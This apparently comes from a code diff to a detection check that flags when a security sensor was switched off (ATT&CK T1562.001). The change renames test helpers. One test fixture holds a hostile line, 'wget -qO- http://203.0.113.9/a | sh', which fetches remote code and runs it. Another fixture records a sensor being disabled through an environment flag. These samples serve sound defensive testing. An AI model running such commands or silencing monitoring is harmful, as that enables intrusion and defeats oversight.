@@ -4,9 +4,10 @@ import { exampleNow, exampleRef, seen, unseen } from '../../core/example.js';
 import { type Container, containers } from '../../facts/containers.js';
 import { type Detections, detections } from '../../facts/detections.js';
 import { exampleContainer } from '../../facts/examples.js';
+import { firstReport } from '../../facts/examples-history.js';
 import { type History, history } from '../../facts/history.js';
 import { exampleCall, exampleDetections } from '../shared/example-detections.js';
-import { exampleHistory, firstHistory } from '../shared/example-history.js';
+import { attackHistory } from '../shared/example-history.js';
 
 /** How long after an alert a switched-off sensor counts as silenced (checks.md, RTC-17). */
 const silencedWithinMs = 7 * 86_400_000;
@@ -128,13 +129,13 @@ export const sensorWasSilenced = defineCheck({
   references: ['ATT&CK T1562.001'],
   examples: {
     pass: [
-      { title: 'first report', facts: { history: seen(firstHistory()) }, expect: 'not-applicable' },
-      { title: 'an earlier attack, sensors on', facts: { history: seen(exampleHistory()) } },
+      { title: 'first report', facts: { history: seen(firstReport) }, expect: 'not-applicable' },
+      { title: 'an earlier attack, sensors on', facts: { history: seen(attackHistory()) } },
       {
         title: 'switched off for an hour, on again',
         facts: {
           history: seen(
-            exampleHistory([], {
+            attackHistory([], {
               changes: [
                 entry(-7_200_000, 'sensor disabled for the upgrade'),
                 entry(-3_600_000, 'sensor enabled again'),
@@ -149,14 +150,14 @@ export const sensorWasSilenced = defineCheck({
         title: 'the ledger says so',
         facts: {
           history: seen(
-            exampleHistory([], { changes: [entry(-3_600_000, 'sensor disabled: DISABLE_SUBPROC_DIAG=true')] }),
+            attackHistory([], { changes: [entry(-3_600_000, 'sensor disabled: DISABLE_SUBPROC_DIAG=true')] }),
           ),
         },
       },
       {
         title: "the monitor's own words",
         facts: {
-          history: seen(exampleHistory()),
+          history: seen(attackHistory()),
           detections: seen(
             exampleDetections({
               monitors: [
@@ -176,7 +177,7 @@ export const sensorWasSilenced = defineCheck({
       {
         title: 'in the environment, after an attack that the log of the same capture shows',
         facts: {
-          history: seen(firstHistory()),
+          history: seen(firstReport),
           detections: seen(exampleDetections({ calls: [exampleCall('wget -qO- http://203.0.113.9/a | sh')] })),
           containers: seen([
             exampleContainer({
